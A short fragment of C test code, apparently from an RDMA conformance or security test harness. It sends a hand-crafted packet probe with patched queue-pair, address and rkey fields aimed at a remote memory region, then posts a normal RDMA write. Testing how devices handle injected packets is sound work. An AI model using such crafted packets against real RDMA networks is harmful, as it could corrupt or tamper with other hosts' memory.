		const struct probe p = { .qp = QP_uc, .bytes = pkt, .len = sizeof pkt, .patch_dest_qp = 1,
			.deth_at = -1, .va_at = 12, .rkey_at = 20, .ieth_at = -1,
			.remote_mr = MR_b_target, .remote_mw = -1, .remote_offset = 6, .rkey = -1,
			.udp_src_port = -1, .copies = 1, .bad_icrc = 0, .settle_ms = 50 };
		send_probe(&p);
	}
	barrier(5);

	/* step 6: a: write */
	if (me == 0) {
		struct ibv_sge sge[] = { sge_of(MR_a_lsrc, 0, 8) };
		struct ibv_send_wr wr = { .wr_id = 99,
			.opcode = IBV_WR_RDMA_WRITE,
			.sg_list = sge, .num_sge = 1,
			.send_flags = IBV_SEND_SIGNALED,
			.wr.rdma = { .remote_addr = remote_va(MR_b_dst, 0), .rkey = theirs.mr_rkey[MR_b_dst] } };
		post_send(QP_fresh, &wr);
	}
	barrier(6);

}
